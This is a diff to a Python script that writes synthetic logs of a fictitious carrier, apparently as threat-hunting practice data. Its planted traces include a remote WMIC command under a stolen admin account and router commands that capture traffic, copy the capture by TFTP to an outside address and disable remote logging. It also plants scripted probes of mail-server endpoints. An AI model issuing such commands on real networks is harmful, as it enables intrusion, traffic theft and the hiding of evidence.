@@ -1,8 +1,10 @@
 """Writes some weeks of host logs of Northgate Communications, a fictitious regional carrier.
 
-Everything is invented. Planted: an intrusion by way of a GIS server, with a VPN bridge under a borrowed name and a
-second host reached with stolen credentials; near misses (an administrator's own remote support, a backup job that
-lists shadow copies, SoftEther installed on purpose on one host); and noise. The same seed gives the same files:
+Everything is invented. Planted: an intrusion by way of a GIS server, with a VPN bridge under a borrowed name, a second
+host reached with stolen credentials and the directory copied; a router entered through its web interface; passwords tried
+at the mail server. Near misses: remote support that is old, a backup job that lists shadow copies, SoftEther installed on
+purpose on one host, a planned change on another router, a telephone with an old password. And noise. The same seed
+gives the same files:
 
     python examples/generate_northgate_logs.py
 """
@@ -227,6 +229,14 @@ def intrusion(log: Log) -> None:
         TargetImage="C:\\Windows\\system32\\lsass.exe",
         GrantedAccess="0x1010",
     )
+    log.process(
+        at + timedelta(days=4, minutes=58),
+        gis,
+        "C:\\Windows\\System32\\wbem\\WMIC.exe",
+        'wmic /node:NG-FILE01 process call create "cmd /c hostname"',
+        cmd,
+        "NORTHGATE\\adm-haas",
+    )
     over = at + timedelta(days=4, hours=1)
     log.process(
         over,
@@ -330,6 +340,89 @@ def near_misses(log: Log) -> None:
     )
 
 
+def routers(random_: random.Random) -> list[str]:
+    """Lines of two routers as their log server keeps them."""
+    lines: list[tuple[datetime, str, str]] = []
+    for _ in range(420):
+        moment = START + timedelta(seconds=random_.random() * 40 * 86400)
+        router = random_.choice(["ng-edge01", "ng-edge02"])
+        port = f"GigabitEthernet0/0/{random_.randrange(8)}"
+        text = random_.choice(
+            [
+                f"%LINEPROTO-5-UPDOWN: Line protocol on Interface {port}, changed state to up",
+                f"%LINK-3-UPDOWN: Interface {port}, changed state to down",
+                "%SYS-5-CONFIG_I: Configured from console by netops on vty0 (10.20.0.9)",
+                "%PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:!exec: enable",
+                "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 10.20.0.9] [localport: 22]",
+                "%BGP-5-ADJCHANGE: neighbor 198.51.100.1 Up",
+            ]
+        )
+        lines.append((moment, router, text))
+    at = datetime(2026, 10, 8, 3, 40, tzinfo=UTC)
+    planted = [
+        "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_support] [Source: 203.0.113.77] at 03:40:00 UTC",
+        "%SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_support on vty0",
+        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:tunnel destination 203.0.113.80",
+        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:monitor capture mycap interface GigabitEthernet0/0/1 both",
+        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:copy bootflash:mycap.pcap tftp://203.0.113.80/m",
+        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:no logging host 10.20.0.20",
+    ]
+    lines += [(at + timedelta(minutes=3 * n), "ng-edge01", text) for n, text in enumerate(planted)]
+    planned = (
+        "%PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:monitor session 4 source interface Gi0/0/2"
+    )
+    lines.append((datetime(2026, 9, 30, 10, 0, tzinfo=UTC), "ng-edge02", planned))
+    return [
+        f"<189>{moment:%Y-%m-%dT%H:%M:%S}Z {router} {number}: {text}"
+        for number, (moment, router, text) in enumerate(sorted(lines), 4001)
+    ]
+
+
+def mail(random_: random.Random) -> list[str]:
+    """A morning of the mail server's web log, W3C extended."""
+    start = datetime(2026, 10, 4, 5, 0, tzinfo=UTC)
+    lines: list[tuple[datetime, str]] = []
+    for _ in range(300):
+        moment = start + timedelta(seconds=random_.randrange(4 * 3600))
+        client, user = (
+            f"10.20.1.{random_.randrange(2, 60)}",
+            random_.choice(["lindqvist", "okafor", "adm-haas"]),
+        )
+        lines.append(
+            (
+                moment,
+                f"POST /mapi/emsmdb - 443 NORTHGATE\\{user} {client} Microsoft+Office/16.0 200 0 {random_.randrange(9, 90)}",
+            )
+        )
+    for n in range(40):  # a telephone with an old password
+        moment = start + timedelta(minutes=5 * n)
+        lines.append(
+            (moment, "POST /Microsoft-Server-ActiveSync/default.eas - 443 - 10.20.1.77 Apple-iPhone 401 0 12")
+        )
+    endpoints = [
+        "ecp/",
+        "EWS/Exchange.asmx",
+        "OAB/",
+        "owa/",
+        "rpc/",
+        "api/",
+        "mapi/",
+        "PowerShell/",
+        "Autodiscover/",
+    ]
+    for n in range(180):
+        moment = start + timedelta(hours=2, seconds=3 * n)
+        path = endpoints[n % len(endpoints)]
+        lines.append((moment, f"GET /{path} - 443 - 203.0.113.77 python-requests/2.31.0 401 0 8"))
+    fields = "date time s-computername cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus time-taken"
+    return [
+        "#Software: Microsoft Internet Information Services 10.0",
+        "#Version: 1.0",
+        f"#Fields: {fields}",
+        *(f"{moment:%Y-%m-%d %H:%M:%S} NG-MAIL01 {text}" for moment, text in sorted(lines)),
+    ]
+
+
 def main() -> None:
     log = Log()
     noise(log, random.Random(SEED), 40)
@@ -341,6 +434,8 @@ def main() -> None:
     clients = [event for event in events if "-WS" in str(event["Computer"])]
     for name, chosen in (("servers.ndjson", servers), ("workstations.ndjson", clients)):
         (FOLDER / name).write_text("".join(json.dumps(event) + "\n" for event in chosen), "utf-8")
+    (FOLDER / "routers.log").write_text("\n".join(routers(random.Random(SEED + 1))) + "\n", "utf-8")
+    (FOLDER / "mail-u_ex261004.log").write_text("\n".join(mail(random.Random(SEED + 2))) + "\n", "utf-8")
     with (FOLDER / "workstations.ndjson").open("a", encoding="utf-8") as file:
         file.write(
             '{"@timestamp": "2026-10-24T05:59:59.000Z", "Channel": "Security", "EventID": 46\n'
